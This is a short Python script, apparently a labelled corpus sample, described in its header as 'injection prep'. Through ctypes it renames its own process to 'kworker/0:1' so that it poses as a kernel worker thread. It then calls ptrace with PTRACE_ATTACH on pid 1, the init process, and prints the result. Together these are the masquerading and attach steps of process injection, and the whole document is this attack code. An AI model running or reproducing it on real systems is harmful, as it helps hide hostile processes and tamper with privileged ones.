# corpus: ctypes ptrace(PTRACE_ATTACH) on pid 1 and prctl to rename the process (injection prep)
import ctypes

libc = ctypes.CDLL("libc.so.6")
PR_SET_NAME = 15
libc.prctl(PR_SET_NAME, b"kworker/0:1", 0, 0, 0)
PTRACE_ATTACH = 16
print("attach:", libc.ptrace(PTRACE_ATTACH, 1, None, None))
